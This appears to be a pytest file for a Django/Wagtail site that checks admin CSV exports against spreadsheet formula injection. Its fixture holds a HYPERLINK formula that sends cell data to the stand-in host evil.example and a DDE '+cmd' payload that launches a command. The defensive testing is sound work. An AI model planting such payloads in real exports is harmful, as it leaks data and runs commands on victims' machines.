"""Finding 5: a cell that a spreadsheet would run as a formula leaves every admin CSV
export as text (a leading quote), as the project's own CSVs already do."""

import csv
import io

import pytest
from django.urls import get_resolver
from wagtail.admin.viewsets import viewsets

from core.exports import SafeCsvExportMixin
from courses.models import Enrolment
from tests.courses.factories import enrol, make_course, make_index
from tests.factories import UserFactory

HOSTILE = {
    "organisation": '=HYPERLINK("http://evil.example/?x="&A1,"org")',
    "country": "+cmd|' /C calc'!A0",
}


def rows(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode())))


@pytest.mark.django_db
def test_the_enrolment_export_writes_formulas_as_text(client, home_page, superuser):
    course = make_course(make_index(home_page))
    enrol(UserFactory(username="mallory", display_name="@SUM(1+1)", **HOSTILE), course)
    client.force_login(superuser)
    response = client.get("/admin/snippets/courses/enrolment/", {"export": "csv"})
    assert response.status_code == 200
    cells = [cell for row in rows(response)[1:] for cell in row]
    assert "'" + HOSTILE["organisation"] in cells
    assert "'" + HOSTILE["country"] in cells
    assert "'@SUM(1+1)" in cells
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]


def export_views():
    """The index view of every registered admin viewset that offers an export."""
    assert get_resolver().url_patterns  # loading the admin URLs registers the viewsets
    for viewset in viewsets.viewsets:
        exported = getattr(viewset, "list_export", None)
        if isinstance(exported, list | tuple) and exported:
            yield viewset, viewset.index_view_class


def test_every_admin_export_is_made_safe():
    """New exports join by being registered; one that bypasses the mixin fails here."""
    found = list(export_views())
    names = {viewset.model for viewset, _ in found}
    assert Enrolment in names and len(found) >= 4
    for viewset, view_class in found:
        assert issubclass(view_class, SafeCsvExportMixin), viewset


@pytest.mark.django_db
def test_the_evaluation_submissions_export_writes_formulas_as_text(client, home_page, superuser):
    """Wagtail's own form-submissions export (/admin/forms/submissions/) is an export too."""
    from courses.models import WorkshopPage
    from tests.evaluations.conftest import CHANGE, answer_data, make_evaluation

    course = make_course(make_index(home_page))
    evaluation = make_evaluation(WorkshopPage.objects.child_of(course).get())
    evaluation.record_answer(UserFactory(), answer_data(**{CHANGE: "=1+1"}))
    client.force_login(superuser)
    response = client.get(f"/admin/forms/submissions/{evaluation.pk}/", {"export": "csv"})
    assert response.status_code == 200
    cells = [cell for row in rows(response)[1:] for cell in row]
    assert "'=1+1" in cells
